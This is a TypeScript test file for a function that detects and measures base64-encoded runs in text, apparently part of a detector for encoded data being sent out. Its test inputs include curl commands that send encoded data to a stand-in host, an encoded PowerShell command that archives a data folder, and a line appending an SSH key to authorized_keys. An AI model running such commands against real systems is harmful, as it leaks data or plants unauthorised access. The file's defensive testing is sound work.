import { expect } from 'chai';
import fc from 'fast-check';

import { measureBase64 } from '../../src/enrichment/base64-runs.ts';

function base64(bytes: Uint8Array, alphabet: 'base64' | 'base64url' = 'base64'): string {
  return Buffer.from(bytes).toString(alphabet);
}

/** Bytes without pattern, always the same. */
function noise(length: number, seed = 1): Uint8Array {
  let state = seed;
  return Uint8Array.from({ length }, () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state >>> 24;
  });
}

const sheet = Buffer.from(
  'employee;team;grade;salary\r\nE1042;Legal;7;61250.00\r\nE3318;Sales;4;40910.00',
);
const script = Buffer.from('Get-ChildItem -Recurse C:\\Data | Compress-Archive out.zip', 'utf16le');
const jwt = `eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJ${base64(noise(120), 'base64url')}.${base64(noise(256), 'base64url')}`;
const key = `AAAAB3NzaC1yc2EAAAADAQABAAABgQ${base64(noise(380))}`;

// [what, text, bytes found or undefined]
const table: readonly (readonly [string, string, number | undefined])[] = [
  ['random bytes', base64(noise(300)), 300],
  ['random bytes for URLs', base64(noise(300), 'base64url'), 300],
  ['a table of text', base64(sheet).replace(/=+$/, ''), sheet.length],
  ['text in UTF-16, as PowerShell takes it', base64(script).replace(/=+$/, ''), script.length],
  ['data in quotes and options', `curl -d "x=${base64(noise(90))}" https://a.example/`, 90],
  [
    'data below a path of a URL',
    `curl https://a.example/up/${base64(noise(120), 'base64url')}`,
    120,
  ],
  ['two pieces', `${base64(noise(60))} ${base64(noise(60, 2))}`, 120],
  ['data whose slashes are encoded', `?d=${encodeURIComponent(base64(noise(150)))}`, 150],
  ['lines of 76 characters', base64(noise(114)).replace(/.{76}/g, '$&\n'), 114],
  ['nothing', '', undefined],
  ['39 characters', base64(noise(60)).slice(0, 39), undefined],
  ['a path', '/usr/lib/x86_64-linux-gnu/perl5/5.38/auto/Encode/Unicode/UnicodeTables', undefined],
  [
    'a path of a project',
    'src/Components/Checkout2/PaymentForm/Fields/CardNumberField7/IndexTest',
    undefined,
  ],
  [
    'a macOS folder for temporary files',
    '/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T/TemporaryItems9',
    undefined,
  ],
  [
    'a SHA-256 digest',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    undefined,
  ],
  [
    'a SHA-256 digest in capitals',
    'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855',
    undefined,
  ],
  ['a folder named by a UUID', 'SDIAG_abd44fe2-363a-4489-8e40-79c298fc63ba-TS-Queue', undefined],
  ['an identifier', 'aksSurfaceCheckoutV2HandlerImplementationFactoryProviderRegistry', undefined],
  [
    'an option',
    '--enable-features=NetworkServiceInProcess2,PlatformHEVCDecoderSupport1',
    undefined,
  ],
  ['an integrity digest', `--integrity sha512-${base64(noise(64))}`, undefined],
  ['a digest with a colon', `sha256:${base64(noise(32))}`, undefined],
  ['a signed token', `-H "Authorization: Bearer ${jwt}"`, undefined],
  ['a public key', `echo "ssh-rsa ${key} ana@host" >> authorized_keys`, undefined],
  ['one character many times', 'A'.repeat(500), undefined],
  ['a number', '1234567890'.repeat(10), undefined],
];

describe('base64 runs', () => {
  for (const [what, text, bytes] of table) {
    it(`${what}: ${bytes === undefined ? 'none' : `${String(bytes)} bytes`}`, () => {
      const found = measureBase64(text);
      if (bytes === undefined) expect(found).to.equal(undefined);
      else expect(found?.bytes).to.be.within(bytes - 2, bytes + 4);
    });
  }

  it('measures runs, characters, the longest and the entropy', () => {
    const found = measureBase64(`${base64(noise(60))} ${base64(noise(90, 2))}`);
    expect(found).to.deep.include({ runs: 2, characters: 200, longest: 120, bytes: 150 });
    expect(found?.entropy).to.be.within(5, 6);
  });

  it('a token or key of any length is no hiding place', () => {
    const long = jwt.replace('.eyJ', `.eyJ${base64(noise(6000), 'base64url')}`);
    expect(measureBase64(long)?.bytes).to.be.greaterThan(5000);
    expect(measureBase64(`${key}${base64(noise(3000))}`)?.bytes).to.be.at.least(3000);
  });

  it('finds what random bytes of any size become', () => {
    const alphabets = fc.constantFrom('base64' as const, 'base64url' as const);
    fc.assert(
      fc.property(
        fc.nat(),
        fc.integer({ min: 96, max: 400 }),
        alphabets,
        (seed, length, alphabet) => {
          const found = measureBase64(`send ${base64(noise(length, seed), alphabet)} now`);
          expect(found?.bytes).to.be.within(length - 2, length);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('ends on any text, and finds no more than there is', () => {
    const part = fc.constantFrom(
      '%',
      '%2',
      '%2b',
      '%2F',
      'eyJ',
      '.',
      '/',
      '-',
      '+',
      'Ab3',
      'sha256-',
      'AAAAB3NzaC1',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 200 }), (parts) => {
        const text = parts.join('');
        expect(measureBase64(text)?.characters ?? 0).to.be.at.most(text.length);
      }),
      { numRuns: 1000 },
    );
  });
});
